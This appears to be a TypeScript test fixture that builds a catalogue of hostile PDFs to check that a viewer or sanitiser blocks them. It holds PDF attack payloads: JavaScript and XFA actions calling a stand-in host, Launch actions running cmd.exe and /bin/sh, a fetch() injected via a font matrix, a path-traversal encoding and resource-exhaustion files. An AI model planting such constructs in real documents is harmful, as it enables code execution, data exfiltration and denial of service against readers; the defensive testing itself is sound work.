import { pageObjects, rawPdf, rawStream } from "./raw_pdf.ts";

/** An address that nothing may ask. */
export const OUTSIDE = "https://outside.invalid/";

const SCRIPT = `(app.launchURL\\("${OUTSIDE}"\\); this.submitForm\\("${OUTSIDE}"\\))`;
const JS = `<< /S /JavaScript /JS ${SCRIPT} >>`;
const ELSEWHERE = `<< /Type /Filespec /FS /URL /F (${OUTSIDE}a.pdf) >>`;
const XFA =
  `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/">` +
  `<subform><event activity="ready"><script contentType="application/x-javascript">xfa.host.gotoURL("${OUTSIDE}")</script>` +
  `</event><draw><value><image href="${OUTSIDE}x.png"/></value></draw></subform></template></xdp:xdp>`;

function annotation(entries: string): Uint8Array<ArrayBuffer> {
  return rawPdf(pageObjects({ page: `/Annots [<< /Type /Annot /Rect [10 10 90 90] ${entries} >>]` }));
}

function image(entries: string, content = "\xff\xd8\xff\xe0"): Uint8Array<ArrayBuffer> {
  return rawPdf(pageObjects({
    content: "q 100 0 0 100 20 20 cm /I Do Q",
    resources: "/XObject << /I 5 0 R >>",
    more: { 5: rawStream(content, `/Type /XObject /Subtype /Image ${entries}`) },
  }));
}

const LOOK = "/Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceRGB";

/** A function for a PostScript calculator, used as a colour. */
function calculator(code: string): Uint8Array<ArrayBuffer> {
  return rawPdf(pageObjects({
    content: "/C cs 0.5 scn 20 20 100 100 re f",
    resources: "/ColorSpace << /C [/Separation /Spot /DeviceRGB 5 0 R] >>",
    more: { 5: rawStream(code, "/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]") },
  }));
}

/** PDFs that would like to run something, to ask somebody, or never to end, by what they try. */
export const HOSTILE_PDFS: Readonly<Record<string, Uint8Array<ArrayBuffer>>> = {
  "script when it opens": rawPdf(pageObjects({ catalog: `/OpenAction ${JS}` })),
  "named script": rawPdf(pageObjects({ catalog: `/Names << /JavaScript << /Names [(a) ${JS}] >> >>` })),
  "script of the document": rawPdf(pageObjects({ catalog: `/AA << /WC ${JS} /WS ${JS} /DP ${JS} >>` })),
  "script of a page": rawPdf(pageObjects({ page: `/AA << /O ${JS} /C ${JS} >>` })),
  "script of a field": annotation(`/Subtype /Widget /FT /Tx /T (a) /V (b) /AA << /F ${JS} /K ${JS} /C ${JS} >>`),
  "script of a button": annotation(`/Subtype /Widget /FT /Btn /Ff 65536 /T (a) /A ${JS} /MK << /CA (Go) >>`),
  "script of a link": annotation(`/Subtype /Link /A ${JS}`),
  "script in a rendition": annotation(`/Subtype /Screen /A << /S /Rendition /OP 0 /JS ${SCRIPT} >>`),
  "script as address": annotation("/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>"),
  "program when it opens": rawPdf(pageObjects({
    catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (calc) >>",
  })),
  "program of a link": annotation("/Subtype /Link /A << /S /Launch /F (/bin/sh) >>"),
  "address when it opens": rawPdf(pageObjects({ catalog: `/OpenAction << /S /URI /URI (${OUTSIDE}) >>` })),
  "other document when it opens": rawPdf(pageObjects({
    catalog: `/OpenAction << /S /GoToR /F ${ELSEWHERE} /D [0 /Fit] >>`,
  })),
  "embedded document": rawPdf(pageObjects({
    catalog: `/OpenAction << /S /GoToE /F ${ELSEWHERE} /D [0 /Fit] /T << /R /C /N (a) >> >>`,
  })),
  "form that is sent": rawPdf(pageObjects({
    catalog: `/OpenAction << /S /SubmitForm /F ${ELSEWHERE} /Flags 4 >>`,
  })),
  "data that is imported": rawPdf(pageObjects({ catalog: `/OpenAction << /S /ImportData /F ${ELSEWHERE} >>` })),
  "sound from outside": annotation(`/Subtype /Sound /Sound << /R 44100 /F ${ELSEWHERE} >>`),
  "movie from outside": annotation(`/Subtype /Movie /Movie << /F ${ELSEWHERE} /Poster true >> /A true`),
  "3D with a script": annotation(`/Subtype /3D /3DD << /Subtype /U3D /OnInstantiate ${SCRIPT} >> /3DA << /A /PO >>`),
  "rich media": annotation(`/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) ${ELSEWHERE}] >> >>`),
  "attached program": rawPdf(pageObjects({
    catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>",
    more: { 5: rawStream("MZ", "/Type /EmbeddedFile") },
  })),
  "XFA form": rawPdf(pageObjects({
    catalog: "/AcroForm << /Fields [] /XFA 5 0 R >>",
    more: { 5: rawStream(XFA) },
  })),
  "XFA form and nothing else": rawPdf(pageObjects({
    catalog: "/NeedsRendering true /AcroForm << /Fields [] /XFA [(template) 5 0 R] >>",
    more: { 5: rawStream(XFA) },
  })),
  "content from outside": rawPdf(pageObjects({ more: { 4: rawStream("", `/F ${ELSEWHERE} /FFilter /FlateDecode`) } })),
  "picture from outside": image(`${LOOK} /F ${ELSEWHERE}`, ""),
  "page of another file": rawPdf(pageObjects({
    content: "/R Do",
    resources: "/XObject << /R 5 0 R >>",
    more: {
      5: rawStream("0 0 9 9 re f", `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${ELSEWHERE} /Page 0 >>`),
    },
  })),
  "picture in another place for print": image(
    `${LOOK} /OPI << /2.0 << /Type /OPI /F ${ELSEWHERE} >> >>`,
    "x".repeat(192),
  ),
  "font from outside": rawPdf(pageObjects({
    resources:
      `/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor << /FontFile2 ${ELSEWHERE} >> >> >>`,
  })),
  "font with code in its matrix": rawPdf(pageObjects({
    content: "BT /G 24 Tf 20 100 Td (a) Tj ET",
    resources: "/Font << /G 5 0 R >>",
    more: {
      5: `<< /Type /Font /Subtype /Type1 /BaseFont /A /FirstChar 97 /LastChar 97 /Widths [500] /FontMatrix [1 2 3 4 5 (1\\); fetch\\('${OUTSIDE}'\\)//)] /FontDescriptor << /Type /FontDescriptor /FontName /A /FontFile 6 0 R >> >>`,
      6: rawStream(
        `%!PS-AdobeFont-1.0: A\n/FontMatrix [1 0 0 1 0 (1); fetch('${OUTSIDE}')] readonly def\neexec`,
        "/Length1 80",
      ),
    },
  })),
  "character map from outside": rawPdf(pageObjects({
    content: "BT /G 24 Tf 20 100 Td <0041> Tj ET",
    resources: "/Font << /G 5 0 R >>",
    more: {
      5: `<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /..#2f..#2f..#2fapi /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (${OUTSIDE}) /Supplement 0 >> >>] >>`,
    },
  })),
  "calculator with code": calculator(`{ fetch("${OUTSIDE}") } }; eval("1")`),
  "calculator without end": calculator(`{ ${"dup ".repeat(20_000)} ${"{".repeat(5_000)} }`),
  "form that contains itself": rawPdf(pageObjects({
    content: "/R Do",
    resources: "/XObject << /R 5 0 R >>",
    more: {
      5: rawStream(
        "/R Do /R Do",
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /R 5 0 R >> >>",
      ),
    },
  })),
  "pages that contain themselves": rawPdf({
    ...pageObjects(),
    2: "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2000000000 >>",
  }),
  "page without end": rawPdf(pageObjects({ page: "/MediaBox [0 0 1e30 1e30] /UserUnit 1e9" })),
  "picture of 2,000 megapixels": image("/Width 65000 /Height 31000 /BitsPerComponent 8 /ColorSpace /DeviceRGB", "x"),
  "lengths without end": rawPdf(pageObjects({ more: { 4: "<< /Length 99999999999 >>\nstream\nBT ET" } })),
  "nested arrays": rawPdf(pageObjects({ page: `/Deep ${"[".repeat(20_000)}${"]".repeat(20_000)}` })),
};
